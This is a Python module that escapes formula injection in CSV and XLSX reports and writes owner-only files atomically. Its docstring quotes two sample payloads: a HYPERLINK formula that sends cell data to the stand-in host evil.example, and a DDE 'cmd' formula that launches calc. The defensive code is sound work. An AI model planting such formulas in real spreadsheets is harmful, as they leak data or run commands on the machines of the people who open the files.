"""Formula-injection escaping for spreadsheet output, and owner-only file creation.

Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) evaluate a cell that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula. A name such as
``=HYPERLINK("http://evil.example/?"&A2,"Click")``, copied from the input or from an
API message into a report, would run when a person opens the report. A leading tab
or carriage return counts too, because some programs strip it and then evaluate
what follows. Following the OWASP "CSV injection" advice, the rule applies to every
text value that came from outside, whatever the rest of the text is:

* XLSX: such a cell is written as a string (never a formula) with the ``quotePrefix``
  style, so Excel shows the text unchanged (``+1 555 0100`` still reads
  ``+1 555 0100``) and keeps it text when a person edits the cell.
* CSV: a CSV file has no types, so such a value gets a leading apostrophe
  (``'+1 555 0100``). Excel shows the apostrophe in a CSV cell. This is a
  deliberate trade: the narrower rule "escape only when the rest parses as a
  formula" would need Excel's formula grammar, and a value such as
  ``-2+3+cmd|' /C calc'!A0`` slips past simple checks. ``unescape_csv_text`` undoes
  the prefix for a program that reads the CSV back.

Numbers the provisioner generates (row numbers and ids) are written as numbers and
never escaped, so a negative number stays a number.
"""

from __future__ import annotations

import contextlib
import os
import stat
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import TextIO

#: First characters that make a spreadsheet program treat a cell as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

#: The character put in front of a formula-like CSV value so it reads as text.
CSV_TEXT_PREFIX = "'"

#: Permissions of every file the provisioner writes: read and write for the owner.
OWNER_ONLY_FILE_MODE = 0o600

#: Permissions of a folder the provisioner creates for its output.
OWNER_ONLY_DIR_MODE = 0o700


def starts_like_formula(text: str) -> bool:
    """Return whether a spreadsheet program could evaluate ``text`` as a formula."""
    return text.startswith(FORMULA_PREFIXES)


def escape_csv_text(text: str) -> str:
    """Prefix an apostrophe to text that a spreadsheet could run as a formula."""
    if starts_like_formula(text):
        return CSV_TEXT_PREFIX + text
    return text


def unescape_csv_text(text: str) -> str:
    """Undo ``escape_csv_text``: drop the apostrophe in front of a formula prefix.

    A value that begins with an apostrophe followed by anything else is returned
    unchanged, so ``'s-Hertogenbosch`` keeps its apostrophe.
    """
    if text.startswith(CSV_TEXT_PREFIX) and starts_like_formula(text[1:]):
        return text[1:]
    return text


def open_owner_only(path: Path, *, encoding: str = "utf-8") -> TextIO:
    """Open ``path`` for appending text, creating it with mode 0600.

    An existing file that other users can read is narrowed to 0600 first, because
    log files may contain email addresses. ``O_NOFOLLOW`` makes a symbolic link at
    ``path`` raise OSError, so a planted link cannot redirect the output.
    """
    flags = os.O_WRONLY | os.O_CREAT | os.O_APPEND | getattr(os, "O_NOFOLLOW", 0)
    descriptor = os.open(path, flags, OWNER_ONLY_FILE_MODE)
    try:
        if stat.S_IMODE(os.fstat(descriptor).st_mode) != OWNER_ONLY_FILE_MODE:
            os.fchmod(descriptor, OWNER_ONLY_FILE_MODE)
        return open(descriptor, "a", encoding=encoding)
    except BaseException:
        os.close(descriptor)
        raise


def ensure_private_dir(path: Path) -> None:
    """Create ``path`` and its missing parents with mode 0700.

    An existing folder keeps its permissions: it may be shared on purpose.
    """
    path.mkdir(mode=OWNER_ONLY_DIR_MODE, parents=True, exist_ok=True)


@contextlib.contextmanager
def atomic_output(target: Path) -> Iterator[Path]:
    """Yield a temporary path next to ``target`` that replaces it on success.

    The temporary file is created with mode 0600 in the same folder, so the final
    ``os.replace`` is atomic: a reader sees the old file or the complete new one,
    never a partial file. On an exception the temporary file is removed and
    ``target`` is left as it was. Nesting two of these replaces the inner target
    first.
    """
    ensure_private_dir(target.parent)
    descriptor, temporary_name = tempfile.mkstemp(
        prefix=f".{target.name}.", suffix=".tmp", dir=target.parent
    )
    os.close(descriptor)
    temporary = Path(temporary_name)
    try:
        yield temporary
        _fsync_file(temporary)
        os.replace(temporary, target)
    except BaseException:
        temporary.unlink(missing_ok=True)
        raise
    _fsync_dir(target.parent)


def _fsync_file(path: Path) -> None:
    descriptor = os.open(path, os.O_RDONLY)
    try:
        os.fsync(descriptor)
    finally:
        os.close(descriptor)


def _fsync_dir(path: Path) -> None:
    # Makes the rename itself durable. Some file systems refuse to open or sync a
    # folder. The rename has happened by then, so that is not an error.
    with contextlib.suppress(OSError):
        descriptor = os.open(path, os.O_RDONLY)
        try:
            os.fsync(descriptor)
        finally:
            os.close(descriptor)
